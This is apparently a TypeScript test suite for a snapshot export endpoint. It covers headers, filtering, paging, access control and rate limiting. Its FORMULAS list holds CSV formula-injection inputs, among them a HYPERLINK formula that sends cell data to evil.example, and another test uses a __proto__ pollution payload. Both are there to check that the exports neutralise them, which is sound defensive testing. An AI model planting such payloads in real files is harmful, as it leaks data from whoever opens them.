import { once } from 'node:events';
import { get } from 'node:http';
import type { IncomingMessage } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Snapshot } from '../../../src/protocol/snapshot.ts';
import { aSnapshot } from '../../helpers/a-snapshot.ts';
import { openApi } from './open-api.ts';
import type { OpenApi } from './open-api.ts';

const FORMULAS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\tcmd',
  '\rcmd',
  '\ncmd',
  ' =1',
  '\u00a0=1',
  '＝1',
  '＋1',
  '－1',
  '＠1',
  '=HYPERLINK("http://evil.example/?"&A1)',
];

let api: OpenApi;
let cookie: string;

beforeAll(async () => {
  api = await openApi();
  cookie = await api.signIn('operator');
});
afterAll(() => api[Symbol.asyncDispose]());

async function store(snapshots: readonly Partial<Snapshot>[], environment = 'default'): Promise<void> {
  const at = new Date(api.clock.ms).toISOString();
  await api.store.storeSnapshots(environment, snapshots.map(aSnapshot), at);
}
const exported = (query: string) => api.call('GET', `/api/snapshots/export?${query}`, { cookie });

describe('an export', () => {
  it('is a file that no browser shows as a page', async () => {
    await store([{ serviceName: 'headers' }]);
    for (const [format, mediaType] of [
      ['ndjson', 'application/x-ndjson; charset=utf-8'],
      ['json', 'application/json; charset=utf-8'],
      ['csv', 'text/csv; charset=utf-8; header=present'],
    ]) {
      const { headers, statusCode } = await exported(`service=headers&format=${format}`);
      expect(statusCode).toBe(200);
      expect(headers).toMatchObject({
        'content-type': mediaType,
        'content-disposition': `attachment; filename="snapshots.${format}"`,
        'x-content-type-options': 'nosniff',
        'cache-control': 'no-store',
      });
    }
  });

  it('has the snapshots that the filters leave, the oldest first, whole and in the words of the protocol', async () => {
    await store([
      { serviceName: 'whole', snapshotId: '0190a000-0000-7000-8000-000000000001', label: 'a' },
      { serviceName: 'whole', snapshotId: '0190a000-0000-7000-8000-000000000002', label: 'b' },
      { serviceName: 'whole', snapshotId: '0190a000-0000-7000-8000-000000000003', label: 'a' },
    ]);
    const lines = (await exported('service=whole&label=a')).body.trimEnd().split('\n');
    const parsed = lines.map((line) => JSON.parse(line));
    expect(parsed.map(({ snapshot_id: id }) => id.slice(-1))).toEqual(['1', '3']);
    expect(parsed[0]).toMatchObject({
      service_name: 'whole',
      label: 'a',
      file_path: '/app/src/order.ts',
      variables: { total: 12 },
      captured_at: '2026-11-21T10:00:00.000Z',
      received_at: new Date(api.clock.ms).toISOString(),
      environment: 'default',
    });
    const array = await exported('service=whole&label=a&format=json');
    expect(array.json()).toEqual(parsed);
  });

  it('goes on over many pages, and is an array also when there is nothing', async () => {
    await store(Array.from({ length: 51 }, (_, index) => ({ serviceName: 'many', label: `l${index}` })));
    const many = (await exported('service=many&format=json')).json<{ label: string }[]>();
    expect(many.map(({ label }) => label)).toEqual(Array.from({ length: 51 }, (_, index) => `l${index}`));
    expect((await exported('service=nobody&format=json')).json()).toEqual([]);
    expect((await exported('service=nobody')).body).toBe('');
    expect((await exported('service=nobody&format=csv')).body.split('\r\n')).toHaveLength(2);
  });

  it('keeps a variable called __proto__ as data', async () => {
    const variables = JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":1}}');
    await store([{ serviceName: 'proto', variables }]);
    const text = '"variables":{"__proto__":{"polluted":true},"constructor":{"prototype":1}}';
    expect((await exported('service=proto')).body).toContain(text);
    expect((await exported('service=proto&format=csv')).body).toContain(
      '"{""__proto__"":{""polluted"":true},""constructor"":{""prototype"":1}}"',
    );
  });

  it('is no formula in any cell of a CSV, and quoted as RFC 4180 says', async () => {
    await store(
      FORMULAS.map((label) => ({ serviceName: 'csv', label, functionName: label, logMessage: label })),
    );
    const rows = parseCsv((await exported('service=csv&format=csv')).body);
    const head = rows[0] ?? [];
    expect(head.slice(0, 6)).toEqual([
      'id',
      'received_at',
      'captured_at',
      'service_name',
      'environment',
      'label',
    ]);
    expect(rows).toHaveLength(1 + FORMULAS.length);
    for (const [index, formula] of FORMULAS.entries()) {
      const row = rows[index + 1] ?? [];
      for (const column of ['label', 'function_name', 'log_message']) {
        expect(row[head.indexOf(column)]).toBe(`'${formula}`);
      }
      expect(row[head.indexOf('variables')]).toBe('{"total":12}');
    }
  });

  it('is only for who may see values', async () => {
    const viewer = await api.signIn('viewer');
    const answer = await api.call('GET', '/api/snapshots/export', { cookie: viewer });
    expect([answer.statusCode, answer.json().code]).toEqual([403, 'values_not_allowed']);
  });

  it.each(['format=xml', 'limit=5', 'before=sn-1', 'sort=id', 'format=csv&format=json'])(
    'refuses ?%s',
    async (query) => {
      const answer = await exported(query);
      expect([answer.statusCode, answer.json().code]).toEqual([400, 'bad_request']);
    },
  );

  it('waits for a reader that does not read, and takes no more than four at a time', async () => {
    const variables = { text: 'x'.repeat(200_000) };
    for (let batch = 0; batch < 10; batch++) {
      await store(Array.from({ length: 20 }, () => ({ serviceName: 'large', variables })));
    }
    let pages = 0;
    const { readSnapshots } = api.store;
    Object.assign(api.store, {
      readSnapshots: (...query: Parameters<typeof readSnapshots>) => {
        pages++;
        return readSnapshots(...query);
      },
    });
    const url = await api.app.listen({ port: 0, host: '127.0.0.1' });
    const open = async (): Promise<IncomingMessage> => {
      const request = get(`${url}/api/snapshots/export?service=large`, { headers: { cookie } });
      const [answer] = (await once(request, 'response')) as [IncomingMessage];
      return answer;
    };
    const slow = await Promise.all([open(), open(), open(), open()]);
    expect(slow.map(({ statusCode }) => statusCode)).toEqual([200, 200, 200, 200]);
    const fifth = await open();
    expect([fifth.statusCode, fifth.headers['retry-after']]).toEqual([429, '10']);
    fifth.destroy();
    // 40 MB four times over are eight pages each; what nobody reads is not fetched.
    expect(pages).toBeLessThan(4 * 8);
    const [first, ...others] = slow;
    let bytes = 0;
    for await (const chunk of first ?? []) bytes += chunk.length;
    expect(bytes).toBeGreaterThan(200 * 200_000);
    for (const answer of others) answer.destroy();
    await expect.poll(async () => (await open()).statusCode).toBe(200);
    api.app.server.closeAllConnections();
  });

  it('takes no place for who has gone before it began', async () => {
    await using own = await openApi();
    const session = await own.signIn('operator');
    const { readSession } = own.store;
    const gate = Promise.withResolvers<void>();
    let asked = 0;
    Object.assign(own.store, {
      readSession: async (...query: Parameters<typeof readSession>) => {
        asked++;
        await gate.promise;
        return readSession(...query);
      },
    });
    let gone = 0;
    own.app.server.on('request', (_request, response) => response.once('close', () => gone++));
    const url = await own.app.listen({ port: 0, host: '127.0.0.1' });
    const requests = Array.from({ length: 4 }, () =>
      get(`${url}/api/snapshots/export`, { headers: { cookie: session } }).on('error', () => undefined),
    );
    await expect.poll(() => asked).toBe(4);
    for (const request of requests) request.destroy();
    await expect.poll(() => gone).toBe(4);
    gate.resolve();
    await expect
      .poll(async () => (await own.store.listAudit({ action: 'snapshot.export' })).items.map(({ ip }) => ip))
      .toEqual(['127.0.0.1', '127.0.0.1', '127.0.0.1', '127.0.0.1']);
    const answer = await own.call('GET', '/api/snapshots/export', { cookie: session });
    expect(answer.statusCode).toBe(200);
  });
});

/** RFC 4180, strictly: a cell with a quote, a comma or a line break stands in quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const cell = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/y;
  while (cell.lastIndex < text.length) {
    const match = cell.exec(text);
    if (match === null) throw new Error(`not CSV at ${cell.lastIndex}`);
    const [, raw = '', end] = match;
    row.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}
